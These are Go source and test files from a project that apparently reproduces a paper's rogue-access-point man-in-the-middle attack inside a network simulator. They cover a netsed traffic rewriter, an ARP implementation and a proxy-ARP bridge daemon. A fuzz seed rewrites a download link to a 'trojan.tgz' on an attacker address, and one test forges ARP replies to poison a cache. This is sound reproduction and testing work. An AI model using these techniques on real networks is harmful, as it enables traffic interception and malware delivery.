				}
			}
			server.Close()
		}
	}
	client.OnClose = func(err error) {
		if err != nil {
			server.Abort()
		}
	}

	server.OnConnect = func() {
		serverUp = true
		for _, b := range pendingToServer {
			_ = server.Write(b)
		}
		pendingToServer = nil
	}
	server.OnData = func(b []byte) {
		before := 0
		for _, r := range rules {
			before += r.Hits
		}
		out := down.Rewrite(b)
		p.BytesRelayed += uint64(len(out))
		after := 0
		for _, r := range rules {
			after += r.Hits
		}
		p.ReplacementsIn += after - before
		if len(out) > 0 {
			_ = client.Write(out)
		}
	}
	server.OnEOF = func() {
		if tail := down.Flush(); len(tail) > 0 {
			_ = client.Write(tail)
		}
		client.Close()
	}
	server.OnClose = func(err error) {
		if err != nil {
			client.Abort()
		}
	}
}
