package netsed

import (
	"bytes"
	"testing"
)

// FuzzParseRule drives the netsed rule parser: arbitrary strings must never
// panic, and an accepted rule must be applicable to data without panicking.
func FuzzParseRule(f *testing.F) {
	f.Add("s/href=file.tgz/href=http:%2f%2f10.0.0.201%2ftrojan.tgz", []byte("<a href=file.tgz>"))
	f.Add("s/from/to/3", []byte("from from from from"))
	f.Add("s/%zz/x", []byte(""))
	f.Add("s//empty", []byte("data"))
	f.Add("s/%2", []byte("x"))
	f.Fuzz(func(t *testing.T, rule string, data []byte) {
		r, err := ParseRule(rule)
		if err != nil {
			return
		}
		if len(r.From) == 0 {
			t.Fatalf("ParseRule(%q) accepted an empty pattern", rule)
		}
		out := NewChunkRewriter([]*Rule{r}).Rewrite(append([]byte(nil), data...))
		if r.MaxHits > 0 && r.Hits > r.MaxHits {
			t.Fatalf("rule exceeded MaxHits: %d > %d", r.Hits, r.MaxHits)
		}
		if r.Hits == 0 && !bytes.Equal(out, data) {
			t.Fatal("rewriter changed data without recording a hit")
		}
	})
}

// FuzzStreamRewriter checks the boundary-safe rewriter: splitting the input
// at any point must produce the same output as one chunk (that is its whole
// reason to exist), and a rule that never matches must pass bytes through.
func FuzzStreamRewriter(f *testing.F) {
	f.Add([]byte("the pattern crosses a bo"), []byte("undary right here"))
	f.Add([]byte{}, []byte{})
	f.Fuzz(func(t *testing.T, a, b []byte) {
		rule := func() []*Rule {
			r, err := ParseRule("s/boundary/BRIDGED!!")
			if err != nil {
				t.Fatal(err)
			}
			return []*Rule{r}
		}

		split := NewStreamRewriter(rule())
		var got []byte
		got = append(got, split.Rewrite(append([]byte(nil), a...))...)
		got = append(got, split.Rewrite(append([]byte(nil), b...))...)
		got = append(got, split.Flush()...)

		whole := NewStreamRewriter(rule())
		var want []byte
		want = append(want, whole.Rewrite(append(append([]byte(nil), a...), b...))...)
		want = append(want, whole.Flush()...)

		if !bytes.Equal(got, want) {
			t.Fatalf("stream rewrite depends on chunking:\n split %q\n whole %q", got, want)
		}
	})
}
