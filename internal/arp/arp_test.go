package arp

import (
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/sim"
)

var (
	ipA = inet.MustParseAddr("10.0.0.1")
	ipB = inet.MustParseAddr("10.0.0.2")
	ipC = inet.MustParseAddr("10.0.0.3")
)

func TestPacketRoundTrip(t *testing.T) {
	p := Packet{
		Op:       OpReply,
		SenderHW: ethernet.MustParseMAC("02:00:00:00:00:01"), SenderIP: ipA,
		TargetHW: ethernet.MustParseMAC("02:00:00:00:00:02"), TargetIP: ipB,
	}
	g, err := Unmarshal(p.Marshal())
	if err != nil || g != p {
		t.Fatalf("g=%+v err=%v", g, err)
	}
}

func TestQuickPacketRoundTrip(t *testing.T) {
	f := func(op uint16, shw, thw [6]byte, sip, tip [4]byte) bool {
		p := Packet{Op: op, SenderHW: ethernet.MAC(shw), SenderIP: inet.Addr(sip),
			TargetHW: ethernet.MAC(thw), TargetIP: inet.Addr(tip)}
		g, err := Unmarshal(p.Marshal())
		return err == nil && g == p
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestUnmarshalRejectsGarbage(t *testing.T) {
	if _, err := Unmarshal(make([]byte, 27)); err != ErrBadPacket {
		t.Error("short accepted")
	}
	bad := (&Packet{Op: OpRequest}).Marshal()
	bad[0] = 9 // htype
	if _, err := Unmarshal(bad); err != ErrBadPacket {
		t.Error("bad htype accepted")
	}
}

// twoHosts builds A—cable—B with ARP clients attached directly to the ports.
func twoHosts(t *testing.T) (*sim.Kernel, *Client, *Client) {
	t.Helper()
	k := sim.NewKernel(1)
	macA := ethernet.MustParseMAC("02:00:00:00:00:01")
	macB := ethernet.MustParseMAC("02:00:00:00:00:02")
	pa, pb := ethernet.NewCable(k, macA, macB, ethernet.PortConfig{})
	ca := NewClient(k, pa, ipA, Config{})
	cb := NewClient(k, pb, ipB, Config{})
	pa.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			ca.HandleFrame(f.Payload)
		}
	})
	pb.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			cb.HandleFrame(f.Payload)
		}
	})
	return k, ca, cb
}

func TestResolveSucceeds(t *testing.T) {
	k, ca, _ := twoHosts(t)
	var got ethernet.MAC
	var gotErr error
	ca.Resolve(ipB, func(m ethernet.MAC, err error) { got, gotErr = m, err })
	k.RunFor(5 * sim.Second)
	if gotErr != nil {
		t.Fatal(gotErr)
	}
	if got != ethernet.MustParseMAC("02:00:00:00:00:02") {
		t.Fatalf("resolved %v", got)
	}
	if _, ok := ca.Lookup(ipB); !ok {
		t.Fatal("not cached after resolve")
	}
}

func TestResolveCacheHitIsSynchronous(t *testing.T) {
	k, ca, _ := twoHosts(t)
	ca.Resolve(ipB, func(ethernet.MAC, error) {})
	k.RunFor(5 * sim.Second)
	called := false
	ca.Resolve(ipB, func(m ethernet.MAC, err error) { called = true })
	if !called {
		t.Fatal("cache hit was not synchronous")
	}
	if ca.RequestsSent != 1 {
		t.Fatalf("RequestsSent = %d, want 1", ca.RequestsSent)
	}
}

func TestResolveTimeout(t *testing.T) {
	k, ca, _ := twoHosts(t)
	var gotErr error
	ca.Resolve(ipC, func(m ethernet.MAC, err error) { gotErr = err }) // nobody has ipC
	k.Run()
	if gotErr != ErrTimeout {
		t.Fatalf("err = %v, want ErrTimeout", gotErr)
	}
	if ca.RequestsSent != 3 {
		t.Fatalf("RequestsSent = %d, want 3 retries", ca.RequestsSent)
	}
}

func TestResolveCoalescesCallbacks(t *testing.T) {
	k, ca, _ := twoHosts(t)
	calls := 0
	for i := 0; i < 5; i++ {
		ca.Resolve(ipB, func(ethernet.MAC, error) { calls++ })
	}
	k.Run()
	if calls != 5 {
		t.Fatalf("calls = %d", calls)
	}
	if ca.RequestsSent != 1 {
		t.Fatalf("RequestsSent = %d, want 1 (coalesced)", ca.RequestsSent)
	}
}

func TestLearnsFromRequests(t *testing.T) {
	k, ca, cb := twoHosts(t)
	// B resolving A teaches A about B as a side effect of the request.
	cb.Resolve(ipA, func(ethernet.MAC, error) {})
	k.RunFor(5 * sim.Second)
	if _, ok := ca.Lookup(ipB); !ok {
		t.Fatal("A did not learn B from B's request")
	}
}

func TestCacheAges(t *testing.T) {
	k, ca, _ := twoHosts(t)
	ca.Resolve(ipB, func(ethernet.MAC, error) {})
	k.Run()
	k.RunUntil(k.Now() + 2*sim.Minute)
	if _, ok := ca.Lookup(ipB); ok {
		t.Fatal("entry survived past TTL")
	}
}

func TestGratuitousAnnounceLearned(t *testing.T) {
	k, ca, cb := twoHosts(t)
	ca.Announce()
	k.RunFor(5 * sim.Second)
	if mac, ok := cb.Lookup(ipA); !ok || mac != ethernet.MustParseMAC("02:00:00:00:00:01") {
		t.Fatal("gratuitous ARP not learned")
	}
}

func TestARPPoisoning(t *testing.T) {
	// Unauthenticated replies overwrite the cache — the wired-MITM vector
	// the paper contrasts with the easier wireless one.
	k, ca, _ := twoHosts(t)
	ca.Resolve(ipB, func(ethernet.MAC, error) {})
	k.Run()
	evil := ethernet.MustParseMAC("02:00:00:00:00:66")
	forged := Packet{Op: OpReply, SenderHW: evil, SenderIP: ipB, TargetHW: ethernet.MustParseMAC("02:00:00:00:00:01"), TargetIP: ipA}
	ca.HandleFrame(forged.Marshal())
	if mac, _ := ca.Lookup(ipB); mac != evil {
		t.Fatal("cache not poisoned by forged reply (ARP would resist MITM, unlike reality)")
	}
}

func TestProxyForAnswersForeign(t *testing.T) {
	k, ca, cb := twoHosts(t)
	_ = ca
	// B proxies for ipC.
	cb.ProxyFor = func(ip inet.Addr) bool { return ip == ipC }
	var got ethernet.MAC
	ca.Resolve(ipC, func(m ethernet.MAC, err error) {
		if err == nil {
			got = m
		}
	})
	k.Run()
	if got != ethernet.MustParseMAC("02:00:00:00:00:02") {
		t.Fatalf("proxy reply MAC = %v", got)
	}
}

// routesRecorder captures AddHostRoute calls.
type routesRecorder struct{ routes map[inet.Addr]string }

func (r *routesRecorder) AddHostRoute(ip inet.Addr, iface string) {
	if r.routes == nil {
		r.routes = map[inet.Addr]string{}
	}
	r.routes[ip] = iface
}

func TestParproutedBridges(t *testing.T) {
	// Topology: victim —wlan0— [gateway] —eth1— server.
	// The gateway learns where each IP lives and proxy-answers across.
	k := sim.NewKernel(1)
	macV := ethernet.MustParseMAC("02:00:00:00:00:0a")
	macW0 := ethernet.MustParseMAC("02:00:00:00:00:0b")
	macE1 := ethernet.MustParseMAC("02:00:00:00:00:0c")
	macS := ethernet.MustParseMAC("02:00:00:00:00:0d")
	ipV := inet.MustParseAddr("10.0.0.3")
	ipS := inet.MustParseAddr("10.0.0.1")

	victimPort, wlan0 := ethernet.NewCable(k, macV, macW0, ethernet.PortConfig{})
	eth1, serverPort := ethernet.NewCable(k, macE1, macS, ethernet.PortConfig{})

	victim := NewClient(k, victimPort, ipV, Config{})
	victimPort.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			victim.HandleFrame(f.Payload)
		}
	})
	server := NewClient(k, serverPort, ipS, Config{})
	serverPort.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			server.HandleFrame(f.Payload)
		}
	})

	gwWlan := NewClient(k, wlan0, inet.MustParseAddr("10.0.0.254"), Config{})
	wlan0.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			gwWlan.HandleFrame(f.Payload)
		}
	})
	gwEth := NewClient(k, eth1, inet.MustParseAddr("10.0.0.253"), Config{})
	eth1.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			gwEth.HandleFrame(f.Payload)
		}
	})

	rec := &routesRecorder{}
	pp := NewParprouted(k, rec, map[string]*Client{"wlan0": gwWlan, "eth1": gwEth})

	// Victim resolves the server's IP. First request misses (daemon probes),
	// a retry gets the proxy reply with the gateway's wlan0 MAC.
	var got ethernet.MAC
	victim.Resolve(ipS, func(m ethernet.MAC, err error) {
		if err != nil {
			t.Errorf("victim resolve failed: %v", err)
			return
		}
		got = m
	})
	k.Run()
	if got != macW0 {
		t.Fatalf("victim resolved server to %v, want gateway wlan0 %v", got, macW0)
	}
	if rec.routes[ipS] != "eth1" {
		t.Fatalf("server route learned on %q, want eth1 (routes: %v)", rec.routes[ipS], rec.routes)
	}
	if rec.routes[ipV] != "wlan0" {
		t.Fatalf("victim route learned on %q, want wlan0", rec.routes[ipV])
	}
	if iface, ok := pp.Where(ipS); !ok || iface != "eth1" {
		t.Fatalf("Where(server) = %q, %v", iface, ok)
	}
}

func TestParproutedDoesNotProxySameSide(t *testing.T) {
	// Two hosts on the same side must keep talking directly: the daemon
	// must not answer for an address that lives on the asking interface.
	k := sim.NewKernel(1)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})

	mk := func(ip inet.Addr) (*Client, *ethernet.Port) {
		port := sw.Attach(alloc.Next())
		c := NewClient(k, port, ip, Config{})
		port.SetReceiver(func(f ethernet.Frame) {
			if f.Type == ethernet.TypeARP {
				c.HandleFrame(f.Payload)
			}
		})
		return c, port
	}
	a, _ := mk(ipA)
	b, portB := mk(ipB)
	_ = b
	gw, _ := mk(inet.MustParseAddr("10.0.0.254"))
	rec := &routesRecorder{}
	// Bridge with a second, empty side.
	k2mac := ethernet.MustParseMAC("02:00:00:00:00:77")
	other, _ := ethernet.NewCable(k, k2mac, ethernet.MustParseMAC("02:00:00:00:00:78"), ethernet.PortConfig{})
	gwOther := NewClient(k, other, inet.MustParseAddr("10.0.1.254"), Config{})
	NewParprouted(k, rec, map[string]*Client{"lan": gw, "other": gwOther})

	var got ethernet.MAC
	a.Resolve(ipB, func(m ethernet.MAC, err error) {
		if err == nil {
			got = m
		}
	})
	k.Run()
	if got != portB.HWAddr() {
		t.Fatalf("A resolved B to %v, want B's own MAC %v", got, portB.HWAddr())
	}
}

// The ARP parser must never panic on arbitrary payloads.
func TestQuickUnmarshalNoPanic(t *testing.T) {
	f := func(b []byte) bool {
		_, _ = Unmarshal(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
