package arp

import (
	"testing"

	"repro/internal/ethernet"
	"repro/internal/inet"
)

// FuzzPacket checks the ARP codec: anything Unmarshal accepts must
// round-trip decode→encode→decode unchanged. (Marshal emits exactly
// packetLen bytes; Unmarshal tolerates trailing bytes, which the round trip
// normalises away.)
func FuzzPacket(f *testing.F) {
	req := Packet{
		Op:       OpRequest,
		SenderHW: ethernet.MustParseMAC("02:00:00:00:03:01"),
		SenderIP: inet.MustParseAddr("10.0.0.3"),
		TargetIP: inet.MustParseAddr("10.0.0.1"),
	}
	f.Add(req.Marshal())
	reply := Packet{
		Op:       OpReply,
		SenderHW: ethernet.MustParseMAC("02:aa:bb:cc:dd:01"),
		SenderIP: inet.MustParseAddr("10.0.0.1"),
		TargetHW: ethernet.MustParseMAC("02:00:00:00:03:01"),
		TargetIP: inet.MustParseAddr("10.0.0.3"),
	}
	f.Add(reply.Marshal())
	f.Add([]byte{0, 1, 8, 0, 6, 4})

	f.Fuzz(func(t *testing.T, b []byte) {
		p1, err := Unmarshal(b)
		if err != nil {
			return
		}
		p2, err := Unmarshal(p1.Marshal())
		if err != nil {
			t.Fatalf("re-decode of marshalled packet failed: %v", err)
		}
		if p1 != p2 {
			t.Fatalf("ARP round-trip unstable:\n first %+v\nsecond %+v", p1, p2)
		}
	})
}
