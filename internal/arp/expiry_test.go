package arp

import (
	"testing"

	"repro/internal/ethernet"
	"repro/internal/sim"
)

// TestCacheEntryExpires proves TTL eviction: a learned entry vanishes from
// the cache map (not just from Lookup's view) once its TTL passes, and the
// next resolution pays exactly one fresh who-has on the wire.
func TestCacheEntryExpires(t *testing.T) {
	k, ca, _ := twoHosts(t)
	ca.Resolve(ipB, func(ethernet.MAC, error) {})
	k.RunFor(5 * sim.Second)
	if ca.RequestsSent != 1 {
		t.Fatalf("RequestsSent = %d after first resolve, want 1", ca.RequestsSent)
	}

	// Default TTL is 60 s. Before the deadline the entry is live...
	k.RunUntil(59 * sim.Second)
	if _, ok := ca.Lookup(ipB); !ok {
		t.Fatal("entry gone before its TTL")
	}
	if ca.Expiries != 0 {
		t.Fatalf("Expiries = %d before the TTL, want 0", ca.Expiries)
	}
	// ...and after it the entry is evicted, not merely hidden.
	k.RunUntil(61 * sim.Second)
	if _, ok := ca.Lookup(ipB); ok {
		t.Fatal("entry survived its TTL")
	}
	if len(ca.cache) != 0 {
		t.Fatalf("cache still holds %d entries after expiry", len(ca.cache))
	}
	if ca.Expiries != 1 {
		t.Fatalf("Expiries = %d, want 1", ca.Expiries)
	}

	// Re-resolution emits exactly one new who-has and repopulates the cache.
	resolved := false
	ca.Resolve(ipB, func(m ethernet.MAC, err error) { resolved = err == nil })
	k.Run()
	if !resolved {
		t.Fatal("re-resolution after expiry failed")
	}
	if ca.RequestsSent != 2 {
		t.Fatalf("RequestsSent = %d after re-resolution, want 2 (one per expiry)", ca.RequestsSent)
	}
}

// TestCacheRefreshPostponesExpiry proves a refresh re-arms rather than
// duplicates the eviction: traffic at TTL/2 keeps the entry alive past the
// original deadline, and only one eviction fires when it finally lapses.
func TestCacheRefreshPostponesExpiry(t *testing.T) {
	k, ca, cb := twoHosts(t)
	ca.Resolve(ipB, func(ethernet.MAC, error) {})
	k.RunFor(5 * sim.Second)

	// At t=30s B announces itself, which makes A re-learn B mid-TTL.
	k.At(30*sim.Second, func() { cb.Announce() })
	// The original deadline (60 s) passes with the entry still fresh.
	k.RunUntil(75 * sim.Second)
	if _, ok := ca.Lookup(ipB); !ok {
		t.Fatal("refreshed entry expired at its original deadline")
	}
	if ca.Expiries != 0 {
		t.Fatalf("Expiries = %d while refreshed, want 0", ca.Expiries)
	}
	// The refreshed deadline (90 s) evicts it exactly once.
	k.RunUntil(95 * sim.Second)
	if _, ok := ca.Lookup(ipB); ok {
		t.Fatal("entry survived its refreshed TTL")
	}
	if ca.Expiries != 1 {
		t.Fatalf("Expiries = %d after refreshed deadline, want 1", ca.Expiries)
	}
}

// TestExpiryDeterministic replays the expire/re-resolve cycle and asserts
// the digests match: eviction timers are kernel events like any other.
func TestExpiryDeterministic(t *testing.T) {
	run := func() uint64 {
		k, ca, _ := twoHosts(t)
		ca.Resolve(ipB, func(ethernet.MAC, error) {})
		k.RunUntil(61 * sim.Second)
		ca.Resolve(ipB, func(ethernet.MAC, error) {})
		k.Run()
		return k.Digest()
	}
	if d1, d2 := run(), run(); d1 != d2 {
		t.Errorf("expiry cycle digests diverged: %016x != %016x", d1, d2)
	}
}
