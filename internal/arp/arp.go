// Package arp implements the Address Resolution Protocol over the simulated
// L2, plus the proxy-ARP bridge daemon ("parprouted") from the paper's
// Appendix A that turns the attacker's laptop into a transparent gateway
// between its rogue-AP interface and its client interface on the real
// network.
package arp

import (
	"encoding/binary"
	"errors"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/sim"
)

// Opcodes.
const (
	OpRequest uint16 = 1
	OpReply   uint16 = 2
)

// Packet is an ARP packet for IPv4 over Ethernet.
type Packet struct {
	Op       uint16
	SenderHW ethernet.MAC
	SenderIP inet.Addr
	TargetHW ethernet.MAC
	TargetIP inet.Addr
}

// packetLen is the wire size of an IPv4-over-Ethernet ARP packet.
const packetLen = 28

// Marshal serialises the packet.
func (p *Packet) Marshal() []byte {
	b := make([]byte, packetLen)
	binary.BigEndian.PutUint16(b[0:2], 1)      // htype: ethernet
	binary.BigEndian.PutUint16(b[2:4], 0x0800) // ptype: IPv4
	b[4], b[5] = 6, 4                          // hlen, plen
	binary.BigEndian.PutUint16(b[6:8], p.Op)
	copy(b[8:14], p.SenderHW[:])
	copy(b[14:18], p.SenderIP[:])
	copy(b[18:24], p.TargetHW[:])
	copy(b[24:28], p.TargetIP[:])
	return b
}

// ErrBadPacket reports an unparseable or non-IPv4/Ethernet ARP packet.
var ErrBadPacket = errors.New("arp: bad packet")

// Unmarshal parses a serialised ARP packet.
func Unmarshal(b []byte) (Packet, error) {
	if len(b) < packetLen {
		return Packet{}, ErrBadPacket
	}
	if binary.BigEndian.Uint16(b[0:2]) != 1 || binary.BigEndian.Uint16(b[2:4]) != 0x0800 ||
		b[4] != 6 || b[5] != 4 {
		return Packet{}, ErrBadPacket
	}
	var p Packet
	p.Op = binary.BigEndian.Uint16(b[6:8])
	copy(p.SenderHW[:], b[8:14])
	copy(p.SenderIP[:], b[14:18])
	copy(p.TargetHW[:], b[18:24])
	copy(p.TargetIP[:], b[24:28])
	return p, nil
}

// Config tunes a Client. Zero values take defaults.
type Config struct {
	// CacheTTL is how long learned entries stay fresh (default 60 s).
	CacheTTL sim.Time
	// RequestTimeout is the per-attempt resolution timeout (default 1 s).
	RequestTimeout sim.Time
	// MaxRetries bounds resolution attempts (default 3).
	MaxRetries int
}

func (c *Config) fill() {
	if c.CacheTTL == 0 {
		c.CacheTTL = 60 * sim.Second
	}
	if c.RequestTimeout == 0 {
		c.RequestTimeout = sim.Second
	}
	if c.MaxRetries == 0 {
		c.MaxRetries = 3
	}
}

type cacheEntry struct {
	mac     ethernet.MAC
	learned sim.Time
}

type pending struct {
	attempts  int
	callbacks []func(ethernet.MAC, error)
	timer     *sim.Event
}

// ErrTimeout is reported to Resolve callbacks when no reply arrives.
var ErrTimeout = errors.New("arp: resolution timed out")

// Client is one interface's ARP engine: it answers requests for the local
// address, learns from traffic, and resolves on demand.
type Client struct {
	kernel *sim.Kernel
	nic    ethernet.NIC
	ip     inet.Addr
	cfg    Config
	cache  map[inet.Addr]cacheEntry
	wait   map[inet.Addr]*pending

	// Observer, if set, sees every ARP packet received on the interface —
	// the hook parprouted and the detectors use.
	Observer func(p Packet)

	// ProxyFor, if set, makes the client answer requests for foreign
	// addresses it returns true for, with this interface's MAC. This is
	// the proxy-ARP half of parprouted.
	ProxyFor func(ip inet.Addr) bool

	// Counters.
	RequestsSent, RepliesSent, RequestsSeen, RepliesSeen uint64
	// Expiries counts cache entries evicted by TTL. Traffic learned after an
	// expiry needs a fresh who-has round trip.
	Expiries uint64
}

// NewClient attaches an ARP engine to a NIC. Note: the engine does not take
// over the NIC receiver; the owner (usually ipv4.Stack) must route EtherType
// ARP frames to HandleFrame.
func NewClient(k *sim.Kernel, nic ethernet.NIC, ip inet.Addr, cfg Config) *Client {
	cfg.fill()
	c := &Client{
		kernel: k,
		nic:    nic,
		ip:     ip,
		cfg:    cfg,
		cache:  make(map[inet.Addr]cacheEntry),
		wait:   make(map[inet.Addr]*pending),
	}
	k.RegisterInvariant("arp/cache-consistency", c.checkConsistency)
	return c
}

// checkConsistency is a sim invariant: cache entries can only have been
// learned in the past, and every pending resolution is mid-retry with at
// least one waiter. An unspecified cached address means learn()'s filter was
// bypassed.
func (c *Client) checkConsistency() error {
	now := c.kernel.Now()
	// Any violation aborts the run; only the first-error text varies with
	// iteration order, never simulation state. This check runs after every
	// event with checking enabled, and collecting+sorting the keys each time
	// dominated chaos-run profiles (the cost of the sort, not the check).
	//simvet:allow maporder invariant check is order-independent: any hit aborts, and sorting addr keys per event boundary costs more than the check
	for ip, e := range c.cache {
		if e.learned > now {
			return errors.New("arp: cache entry for " + ip.String() + " learned in the future")
		}
		if now-e.learned > c.cfg.CacheTTL {
			return errors.New("arp: stale cache entry for " + ip.String() + " outlived its TTL eviction")
		}
		if ip.IsUnspecified() {
			return errors.New("arp: cache entry for unspecified address")
		}
	}
	//simvet:allow maporder invariant check is order-independent: any hit aborts, and sorting addr keys per event boundary costs more than the check
	for ip, p := range c.wait {
		if p.attempts < 1 || p.attempts > c.cfg.MaxRetries {
			return errors.New("arp: pending resolution for " + ip.String() + " with attempt count out of range")
		}
		if len(p.callbacks) == 0 {
			return errors.New("arp: pending resolution for " + ip.String() + " with no waiters")
		}
	}
	return nil
}

// IP reports the protocol address the client answers for.
func (c *Client) IP() inet.Addr { return c.ip }

// Lookup consults the cache without generating traffic.
func (c *Client) Lookup(ip inet.Addr) (ethernet.MAC, bool) {
	e, ok := c.cache[ip]
	if !ok || c.kernel.Now()-e.learned > c.cfg.CacheTTL {
		return ethernet.MAC{}, false
	}
	return e.mac, true
}

// learn inserts a mapping and arms its TTL eviction.
func (c *Client) learn(ip inet.Addr, mac ethernet.MAC) {
	if ip.IsUnspecified() {
		return
	}
	_, had := c.cache[ip]
	c.cache[ip] = cacheEntry{mac: mac, learned: c.kernel.Now()}
	if !had {
		c.armExpiry(ip, c.kernel.Now()+c.cfg.CacheTTL)
	}
	if p, ok := c.wait[ip]; ok {
		delete(c.wait, ip)
		if p.timer != nil {
			p.timer.Cancel()
		}
		for _, cb := range p.callbacks {
			cb(mac, nil)
		}
	}
}

// armExpiry schedules eviction of ip's cache entry at its TTL deadline. A
// refresh between arming and firing just re-arms for the new deadline, so
// each live entry carries exactly one outstanding timer.
func (c *Client) armExpiry(ip inet.Addr, at sim.Time) {
	c.kernel.Schedule(at, func() {
		e, ok := c.cache[ip]
		if !ok {
			return
		}
		if deadline := e.learned + c.cfg.CacheTTL; deadline > c.kernel.Now() {
			c.armExpiry(ip, deadline)
			return
		}
		delete(c.cache, ip)
		c.Expiries++
	})
}

// Resolve invokes cb with the MAC for ip, sending requests as needed. The
// callback may fire synchronously on a cache hit.
func (c *Client) Resolve(ip inet.Addr, cb func(ethernet.MAC, error)) {
	if mac, ok := c.Lookup(ip); ok {
		cb(mac, nil)
		return
	}
	if p, ok := c.wait[ip]; ok {
		p.callbacks = append(p.callbacks, cb)
		return
	}
	p := &pending{callbacks: []func(ethernet.MAC, error){cb}}
	c.wait[ip] = p
	c.sendRequest(ip, p)
}

func (c *Client) sendRequest(ip inet.Addr, p *pending) {
	p.attempts++
	c.RequestsSent++
	req := Packet{Op: OpRequest, SenderHW: c.nic.HWAddr(), SenderIP: c.ip, TargetIP: ip}
	c.nic.Send(ethernet.BroadcastMAC, ethernet.TypeARP, req.Marshal())
	p.timer = c.kernel.After(c.cfg.RequestTimeout, func() {
		if _, still := c.wait[ip]; !still {
			return
		}
		if p.attempts >= c.cfg.MaxRetries {
			delete(c.wait, ip)
			for _, cb := range p.callbacks {
				cb(ethernet.MAC{}, ErrTimeout)
			}
			return
		}
		c.sendRequest(ip, p)
	})
}

// Announce sends a gratuitous ARP for the local address.
func (c *Client) Announce() {
	g := Packet{Op: OpRequest, SenderHW: c.nic.HWAddr(), SenderIP: c.ip, TargetIP: c.ip}
	c.nic.Send(ethernet.BroadcastMAC, ethernet.TypeARP, g.Marshal())
}

// HandleFrame processes a received ARP payload.
func (c *Client) HandleFrame(payload []byte) {
	p, err := Unmarshal(payload)
	if err != nil {
		return
	}
	if c.Observer != nil {
		c.Observer(p)
	}
	// Learn the sender either way (standard ARP behaviour, and the cache
	// poisoning vector: replies are not authenticated).
	c.learn(p.SenderIP, p.SenderHW)
	switch p.Op {
	case OpRequest:
		c.RequestsSeen++
		answer := p.TargetIP == c.ip ||
			(c.ProxyFor != nil && p.TargetIP != p.SenderIP && c.ProxyFor(p.TargetIP))
		if answer {
			c.RepliesSent++
			resp := Packet{
				Op:       OpReply,
				SenderHW: c.nic.HWAddr(), SenderIP: p.TargetIP,
				TargetHW: p.SenderHW, TargetIP: p.SenderIP,
			}
			c.nic.Send(p.SenderHW, ethernet.TypeARP, resp.Marshal())
		}
	case OpReply:
		c.RepliesSeen++
	}
}
