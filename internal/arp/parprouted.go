package arp

import (
	"sort"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/sim"
)

// RouteInstaller receives the host routes parprouted learns. ipv4.Stack
// satisfies it.
type RouteInstaller interface {
	AddHostRoute(ip inet.Addr, iface string)
}

// Parprouted reproduces V. Ivaschenko's proxy-ARP routing daemon, which the
// paper's Appendix A uses to build the transparent bridge between the rogue
// AP interface (wlan0) and the interface associated to the real network
// (eth1):
//
//	# Create the bridge
//	parprouted wlan0 eth1
//
// Mechanism: the daemon watches ARP traffic on each interface, learns which
// interface each IP address lives behind, installs /32 host routes, and
// answers ARP requests for addresses that live behind *another* interface
// with the local interface's MAC — so neighbours send it their traffic and
// IP forwarding (enabled separately) relays it. Addresses nobody has proven
// yet are probed on the other interfaces; the requester's retry then gets a
// proxy reply.
type Parprouted struct {
	kernel *sim.Kernel
	routes RouteInstaller
	ifaces []bridgeIface
	// where maps a learned IP to the index of its home interface.
	where map[inet.Addr]int

	// Learned counts installed host routes; Proxied counts proxy replies
	// sent on behalf of remote addresses.
	Learned uint64
}

type bridgeIface struct {
	name   string
	client *Client
}

// NewParprouted bridges the given (name, ARP client) pairs. Clients keep any
// Observer they already have; the daemon chains onto it.
func NewParprouted(k *sim.Kernel, routes RouteInstaller, ifaces map[string]*Client) *Parprouted {
	p := &Parprouted{
		kernel: k,
		routes: routes,
		where:  make(map[inet.Addr]int),
	}
	for name, c := range ifaces {
		p.ifaces = append(p.ifaces, bridgeIface{name: name, client: c})
	}
	// Deterministic order regardless of map iteration.
	sort.Slice(p.ifaces, func(i, j int) bool { return p.ifaces[i].name < p.ifaces[j].name })
	for idx := range p.ifaces {
		idx := idx
		bi := p.ifaces[idx]
		prev := bi.client.Observer
		bi.client.Observer = func(pk Packet) {
			if prev != nil {
				prev(pk)
			}
			p.observe(idx, pk)
		}
		bi.client.ProxyFor = func(ip inet.Addr) bool {
			home, known := p.where[ip]
			if known && home != idx {
				return true
			}
			if !known {
				// Probe the other interfaces so the requester's ARP
				// retry finds the address resolved.
				p.probe(idx, ip)
			}
			return false
		}
	}
	return p
}

// observe learns address locations from ARP traffic seen on iface idx.
func (p *Parprouted) observe(idx int, pk Packet) {
	p.learn(idx, pk.SenderIP)
}

// learn records that ip lives behind interface idx and installs the route.
func (p *Parprouted) learn(idx int, ip inet.Addr) {
	if ip.IsUnspecified() {
		return
	}
	if cur, ok := p.where[ip]; ok && cur == idx {
		return
	}
	p.where[ip] = idx
	p.Learned++
	p.routes.AddHostRoute(ip, p.ifaces[idx].name)
}

// probe asks the other interfaces who owns ip.
func (p *Parprouted) probe(exclude int, ip inet.Addr) {
	for i := range p.ifaces {
		if i == exclude {
			continue
		}
		i := i
		p.ifaces[i].client.Resolve(ip, func(_ ethernet.MAC, err error) {
			if err == nil {
				p.learn(i, ip)
			}
		})
	}
}

// Where reports the learned home interface for ip.
func (p *Parprouted) Where(ip inet.Addr) (string, bool) {
	idx, ok := p.where[ip]
	if !ok {
		return "", false
	}
	return p.ifaces[idx].name, true
}
