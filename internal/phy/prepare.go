package phy

// Speculative delivery preparation (DESIGN.md §14). Under a windowed kernel
// (sim.SetWorkers), each transmission's completion event carries a prepare
// hook that runs the deterministic, RNG-free part of delivery ahead of time,
// possibly on a worker goroutine: the candidate gather, the per-receiver
// RSSI/SNR math, the decode-floor cut, and the interference scan over the
// overlaps registered so far. The completion itself — RNG draws, counters,
// digest mixes, receiver callbacks — always commits serially, consuming the
// prepared values only when the generation stamps prove no input changed.
//
